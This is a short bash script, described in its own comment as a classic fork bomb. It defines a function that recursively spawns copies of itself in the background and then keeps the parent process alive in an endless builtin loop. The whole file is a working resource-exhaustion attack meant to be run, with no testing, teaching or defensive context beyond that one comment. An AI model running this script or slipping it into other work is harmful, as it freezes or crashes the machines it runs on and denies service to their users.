#!/bin/bash
# Classic fork bomb; the parent stays busy with builtins only (no fork needed) so it lives on.
bomb() { bomb | bomb & }
bomb
while :; do :; done
